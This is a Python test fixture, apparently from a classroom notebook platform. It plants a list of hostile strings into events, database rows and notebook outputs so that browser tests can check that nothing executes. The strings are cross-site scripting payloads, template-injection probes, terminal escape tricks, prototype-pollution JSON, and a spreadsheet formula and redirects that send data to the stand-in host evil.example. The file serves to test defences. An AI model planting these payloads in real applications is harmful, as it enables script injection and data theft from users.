"""Texts that want to be more than text, and a class full of them.

`flood` are events to post through the intake, as a JupyterLab would. `main`, inside `manage.py shell` of a running
copy, puts the texts where no event leads to: hand-ins, notes, assignments, environments. What any of them could do
leaves a trace that tests/browser/test_hostile_text.py looks for: `window.pwned`, an element named or marked `pwned`, a
request to evil.example.
"""

import json
import sys
from collections.abc import Callable
from itertools import cycle
from typing import Any

from classroom.students.models import StudentNote
from events.models import CellExecution
from lms.api.notebook_content import receipt
from lms.models import (
    AssignmentStarter,
    AssignmentSubmission,
    Cell,
    Class,
    ClassAssignment,
    EnvironmentSnapshot,
    Notebook,
    Student,
    Team,
)
from tests.browser import lesson

MARK = "hostile text"  # beside each of them, to find the places where it is shown
PAYLOADS = [
    "<script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=2">',
    "'><svg onload=window.pwned=3><pwned-a></pwned-a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=4></style></mglyph></table></mtext></math>",
    '<a href="javascript:window.pwned=5" id="pwned">link</a>',
    "javascript:window.pwned=6",
    "</script><script>window.pwned=7</script>",
    "</title></textarea></style></noscript></template><img src=x onerror=window.pwned=8>",
    "{{ 913*731 }}{% debug %}${913*731}#{913*731}<%= 913*731 %>",
    '\x1b]8;;javascript:window.pwned=9\x07pwned\x1b]8;;\x07\x1b[31m<b id="pwned">red</b>\x1b[0m\x1b[2J',
    "‮gpj.exe⁦ مرحبا بالعالم ‏<b id=pwned>",
    "nul\0 bell\x07 <pwned-b></pwned-b>",
    "</style><style id=pwned>*{display:none!important}</style>",
    '<iframe srcdoc="<script>parent.pwned=10</script>"></iframe><object data="javascript:1"></object>',
    '<form action="https://evil.example"><button formaction="javascript:window.pwned=11" id="pwned">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">',
    '=HYPERLINK("https://evil.example/?"&A1,"pwned")',
    "');window.pwned=12;//`${window.pwned=13}`\\u003cscript>window.pwned=14\\u003c/script>",
    "&lt;script&gt;window.pwned=15&lt;/script&gt;<!--",
    '{"constructor":{"prototype":{"pwned":16}},"__proto__":{"pwned":17}}',
]
HOSTS = "example.com"


def hostile(text: str) -> str:
    return f"{MARK} {text}"


# --- Through the intake ---------------------------------------------------------------------------------------------


def flood() -> list[dict[str, Any]]:
    """Events of a student for each text, who fails three times in a row and asks for help."""
    events = []
    for number, text in enumerate(PAYLOADS):
        said = hostile(text)
        about = {
            "emailAddress": f"p{number}@{HOSTS}", "userName": said, "teamName": said, "sessionId": said,
            "notebookPath": f"lesson/{said}.ipynb",
        }  # fmt: skip
        for run in range(3):
            events.append(
                {**about, "eventType": "cell_executed", "eventId": f"{number}-{run}", "cellId": said, "cellIndex": 0,
                 "code": said, "result": said, "hasError": True, "errorMessage": f"{text}Error: {said}"}
            )  # fmt: skip
        events.append(
            {**about, "eventType": "help", "eventId": f"{number}-help", "cellId": said, "metadata": {"message": said}}
        )
        events.append({**about, "eventType": said, "eventId": f"{number}-odd", "metadata": {said: said}})
    return events


# --- Where no event leads to ----------------------------------------------------------------------------------------


def main(teacher: str) -> None:
    """The class of tests/browser/lesson.py with these texts in the place of its own; prints its ids."""
    made = lesson.fill(teacher)
    texts = cycle(PAYLOADS)

    def say(maximum: int = 100_000) -> str:
        return hostile(next(texts).replace("\0", ""))[:maximum]

    for rows, columns in (
        (Student, {"name": 255}),
        (Team, {"team_name": 255}),
        (Notebook, {"path": 500, "name": 255}),
        (Cell, {"content": 1000}),
        (CellExecution, {"code_content": 1000, "output": 1000}),
        (Class, {"name": 255, "description": 500}),
        (ClassAssignment, {"title": 255, "description": 500}),
        (AssignmentSubmission, {"submission_comment": 500, "feedback": 500}),
        (StudentNote, {"text": 500}),
    ):
        _rewrite(rows, columns, say)
    for row in AssignmentSubmission.objects.exclude(notebook_content=None):
        content = notebook_of(say)
        AssignmentSubmission.objects.filter(pk=row.pk).update(notebook_content=content, content_sha256=receipt(content))
    AssignmentStarter.objects.update(content=notebook_of(say))
    for row in EnvironmentSnapshot.objects.all():
        row.versions, row.python_env = {say(60): say(40), "numpy": say(40)}, {"python_version": say(40)}
        row.save()
    sys.stdout.write(json.dumps(made))


def _rewrite(model: Any, columns: dict[str, int], say: Callable[[int], str]) -> None:
    for row in model.objects.order_by("pk"):
        for name, maximum in columns.items():
            setattr(row, name, say(maximum - 8) + f" {row.pk}")
        row.save()


def notebook_of(say: Callable[[], str]) -> dict[str, Any]:
    """A notebook whose every part says it, in every kind of output."""
    data = [{kind: say()} for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "text/plain")]
    data += [{"application/javascript": "window.pwned=20"}, {"image/png": say()}, {"application/json": {say(): say()}}]
    outputs: list[dict[str, Any]] = [
        {"output_type": "display_data", "data": each, "metadata": {say(): say()}} for each in data
    ]
    outputs.append({"output_type": "stream", "name": "stdout", "text": say()})
    outputs.append({"output_type": "error", "ename": say(), "evalue": say(), "traceback": [say(), say()]})
    cells: list[dict[str, Any]] = [
        {"cell_type": kind, "id": f"c{number}", "metadata": {}, "source": hostile(text.replace("\0", ""))}
        for number, text in enumerate(PAYLOADS)
        for kind in ("markdown",)
    ]
    cells.append(
        {"cell_type": "code", "id": "code", "metadata": {"tags": [say()]}, "source": say(), "execution_count": 1,
         "outputs": outputs}
    )  # fmt: skip
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"language_info": {"name": say()}}, "cells": cells}
